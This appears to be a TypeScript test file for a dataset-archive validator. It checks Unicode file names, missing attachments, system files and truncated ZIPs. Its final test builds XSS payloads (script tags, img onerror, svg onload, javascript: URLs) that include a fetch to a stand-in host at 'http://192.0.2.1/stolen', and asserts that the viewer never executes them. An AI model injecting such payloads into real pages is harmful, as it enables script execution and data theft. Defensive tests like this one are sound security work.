// ZIP archives: from ordinary programs, and hostile ones.

import { expect, full, test } from "./support/app.ts";
import { pack, PDF, PNG, read } from "./support/files.ts";

const NFC = "résumé.txt".normalize("NFC");
const NFD = NFC.normalize("NFD");

const line = (...paths: string[]): string =>
  JSON.stringify({
    input: {
      messages: [
        {
          role: "user",
          content: [{ type: "text", text: "Read these" }, ...paths.map((path) => ({ type: "file_ref", path }))],
        },
      ],
    },
    usage_output: null,
  });

test("an archive with a top folder, system files, attachments, a missing and an unused file", async ({
  app,
  page,
  folder,
}, info) => {
  const { path, program } = await pack(folder, "dataset.zip", {
    "dataset/samples.jsonl": [
      line("attachments/report.pdf", "attachments/dot.png"),
      line(`attachments/${NFC}`),
      line("attachments/Report.PDF"),
      line("attachments/missing.pdf"),
    ].join("\n"),
    "dataset/attachments/report.pdf": PDF,
    "dataset/attachments/dot.png": PNG,
    [`dataset/attachments/${NFD}`]: "Grüße",
    "dataset/attachments/unused.txt": "nobody asks for it",
    "__MACOSX/dataset/._samples.jsonl": "\0\u0005\u0016\u0007",
    "__MACOSX/dataset/attachments/._report.pdf": "\0\u0005\u0016\u0007",
  });
  info.annotations.push({ type: "packed by", description: program });
  await app.open();
  await app.choose(path);
  await app.expectVerdict("invalid");
  await expect(app.verdict).toContainText("samples.jsonl");
  await expect(app.count("records")).toHaveText("4");
  await expect(app.count("invalid")).toHaveText("2");
  await expect(app.count("errors")).toHaveText("2");

  await expect(app.findings).not.toHaveCount(0);
  await app.expectAllRead();
  const lines = await app.findingLines();
  const errors = lines.filter((text) => !/: (warning|info): /.test(text));
  expect(errors).toHaveLength(2);
  expect(errors[0]).toMatch(/^line 3: input\.messages\.0\.content\.1\.path: .*attachments\/report\.pdf/);
  expect(errors[1]).toMatch(/^line 4: input\.messages\.0\.content\.1\.path: .*attachments\/missing\.pdf/);
  expect(lines.filter((text) => /unused\.txt/.test(text))).toHaveLength(1);
  expect(lines.filter((text) => /MACOSX|\._/.test(text)), "one finding for all system files").toHaveLength(1);

  const attachments = page.getByTestId("attachment");
  await app.showLines();
  await app.line(1).click();
  await app.showSample();
  await expect(attachments).toHaveCount(2);
  await expect(attachments.nth(0)).toHaveAttribute("data-state", "pdf");
  await expect(attachments.nth(0)).toContainText("PDF");
  await expect(attachments.nth(0).locator("iframe")).toHaveAttribute("src", /^blob:/);
  await expect(attachments.nth(1)).toHaveAttribute("data-state", "image");
  await expect(attachments.nth(1)).toContainText("PNG");
  await expect
    .poll(() => attachments.nth(1).locator("img").evaluate((image: HTMLImageElement) => image.naturalWidth))
    .toBe(1);

  // The names in the record and in the archive have different Unicode normalization forms.
  await app.line(2).click();
  await expect(attachments).toHaveCount(1);
  await expect(attachments).toHaveAttribute("data-state", "text");
  await expect(attachments).toContainText("Grüße");

  await app.line(3).click();
  await expect(attachments).toHaveAttribute("data-state", "missing");
  await expect(attachments).toContainText("Did you mean");
  await expect(attachments).toContainText("attachments/report.pdf");

  await app.line(4).click();
  await expect(attachments).toContainText("attachments/missing.pdf");
  await expect(attachments).toHaveAttribute("data-state", "missing");
});

test("the error of an archive without a dataset lists its files", full(), async ({ app, folder }) => {
  const { path } = await pack(folder, "wrong.zip", { "data.csv": "a,b\n", "notes/readme.md": "# Notes" });
  await app.open();
  await app.choose(path);
  await app.expectVerdict("invalid");
  await expect(app.findings.filter({ hasText: "data.csv" })).toHaveCount(1);
});

test("a truncated archive is an error", full(), async ({ app, folder }) => {
  const { path } = await pack(folder, "whole.zip", { "samples.jsonl": line(), "attachments/a.txt": "a".repeat(5000) });
  const whole = await read(path);
  await app.open();
  await app.choose({ name: "cut.zip", content: whole.subarray(0, whole.length - 30) });
  await app.expectVerdict("invalid");
});

const SCRIPT = "globalThis.top.pwned = 1; alert(1); fetch('http://192.0.2.1/stolen')";

test("content of a dataset is never executed or fetched", async ({ app, page, folder }) => {
  const image = `<img src="http://192.0.2.1/x.png" onerror="${SCRIPT}">`;
  const svg = `<svg xmlns="http://www.w3.org/2000/svg" onload="${SCRIPT}"><script>${SCRIPT}</script><image href="http://192.0.2.1/x.png"/></svg>`;
  const html = `<!doctype html><script>${SCRIPT}</script><link rel="stylesheet" href="http://192.0.2.1/x.css">${image}`;
  const hostile = {
    input: {
      messages: [
        { role: image, content: image },
        {
          role: "user",
          content: [
            { type: "text", text: `<script>${SCRIPT}</script>${image}` },
            { type: "image_url", image_url: { url: "http://192.0.2.1/remote.png" } },
            { type: "image_url", image_url: { url: `javascript:${SCRIPT}` } },
            { type: "file_ref", path: "attachments/page.html" },
            { type: "file_ref", path: "attachments/picture.svg" },
            { type: "file_ref", path: "attachments/really-html.png" },
            { type: "file_ref", path: "attachments/really-html.pdf" },
            { type: "file_ref", path: "attachments/feed.xml" },
            { type: "file_ref", path: `attachments/${image}` },
          ],
        },
      ],
      [image]: 1,
    },
    usage_output: image,
  };
  const { path } = await pack(folder, "hostile.zip", {
    "samples.jsonl": JSON.stringify(hostile),
    "attachments/page.html": html,
    "attachments/picture.svg": svg,
    "attachments/really-html.png": html,
    "attachments/really-html.pdf": html,
    "attachments/feed.xml": `<?xml version="1.0"?><?xml-stylesheet href="http://192.0.2.1/x.xsl"?><x xmlns:h="http://www.w3.org/1999/xhtml"><h:script>${SCRIPT}</h:script></x>`,
  });
  await app.open();
  await app.choose(path);
  await app.expectVerdict("invalid");
  await app.showLines();
  await app.line(1).click();
  await app.showSample();
  const attachments = page.getByTestId("attachment");
  await expect(attachments).toHaveCount(6);
  for (const index of [0, 1, 2, 3, 4]) await expect(attachments.nth(index)).toHaveAttribute("data-state", "text");
  await expect(attachments.nth(0)).toContainText("<!doctype html><script>");
  await expect(attachments.nth(1)).toContainText("<svg xmlns=");
  await expect(page.getByTestId("sample").locator("iframe, object, embed, img, a[href]")).toHaveCount(0);

  await page.getByTestId("tab-source").click();
  await page.getByTestId("tab-findings").click();
  for (const finding of await app.findings.all()) await finding.click();
  await app.copiedReport();
  expect(await page.evaluate(() => "pwned" in globalThis)).toBe(false);
  // The fixture `app` checks that there was no request, dialog, window or policy violation.
});
